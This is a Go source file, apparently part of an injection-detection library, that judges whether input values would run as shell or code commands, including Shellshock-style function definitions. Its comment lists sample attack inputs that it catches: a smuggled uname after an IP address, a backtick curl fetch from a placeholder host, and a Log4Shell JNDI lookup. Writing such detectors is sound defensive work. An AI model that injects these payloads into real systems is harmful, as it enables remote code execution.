package detect

import "bytes"

// Command and code injection.
//
// Rules: a value becomes a command by leaving its place (a separator, a
// substitution, a line end) and going on as something that runs, or by being
// a complete command line. The tokenisers read it as sh, cmd.exe, PHP, Java,
// Python or JavaScript would; the judge asks whether what they read would
// run and how much plain text stands around it. Words that commands share
// with English count only with arguments that text does not have.
//
// Guarantee, at balanced. Caught:
//
//	10.0.0.7; u'na'me -a
//	x`curl${IFS}files.example/a`
//	${${lower:J}ndi:ldap://h.example/x}
//
// Not an attack:
//
//	Salt & Pepper; more at the counter
//	sort by date | name | host
//	Dear {{name}}, your total is ${amount}
func maybeRCE(f features, n int) bool {
	return n > 1
}

func judgeRCE(v *value, s *Scratch) finding {
	if plainWord(v.f, len(v.b), v.kind) {
		return finding{}
	}
	if v.f&^(fAlpha|fDigit|fMinus|fUnder|fDot|fEqual|fPlus|fSlash) == 0 && v.f&(fSlash|fPlus|fDot) == 0 {
		return judgeObject(v)
	}
	var best finding
	x := newShellContext(v)
	if v.f&(fSemi|fAmp|fPipe|fDollar|fQuote|fLess|fPercent|fBack|fSpace|fSlash|fPlus) != 0 || v.f&(fBracket|fComma) == fBracket|fComma {
		best = x.judgeShell()
	}
	if v.f&(fPercent|fParen) == fPercent|fParen && v.f&fSpace != 0 {
		best = stronger(best, x.judgeLoop())
	}
	if v.f&fBracket != 0 && v.f&fDollar != 0 {
		best = stronger(best, judgeLookup(v))
	}
	if v.f&fBracket != 0 && v.f&fParen != 0 {
		best = stronger(best, judgeFunctionImport(v))
		best = stronger(best, judgeForkBomb(v))
	}
	if v.f&(fParen|fLess|fDollar|fBracket) != 0 {
		best = stronger(best, x.judgeCode(v))
	}
	return stronger(best, judgeObject(v))
}

// judgeFunctionImport finds a function definition at the start of a value
// that bash before CVE-2014-6271 would import from its environment and run.
func judgeFunctionImport(v *value) finding {
	b := bytes.TrimLeft(v.b, " \t\r\n'\"")
	if len(b) < 5 || b[0] != '(' {
		return finding{}
	}
	i := 1
	for i < len(b) && i < 16 && (b[i] == ' ' || b[i] == 0 || b[i] == '\t') {
		i++
	}
	if i+2 < len(b) && b[i] == '%' && b[i+1] == '0' {
		i += 3
	}
	if i >= len(b) || b[i] != ')' {
		return finding{}
	}
	for i++; i < len(b) && i < 32 && (b[i] == ' ' || b[i] == '\t'); i++ {
	}
	if i >= len(b) || b[i] != '{' {
		return finding{}
	}
	return finding{score: 88, start: len(v.b) - len(b), end: len(v.b), rule: "rce/function-import",
		why: "is a shell function that bash would import from its environment"}
}
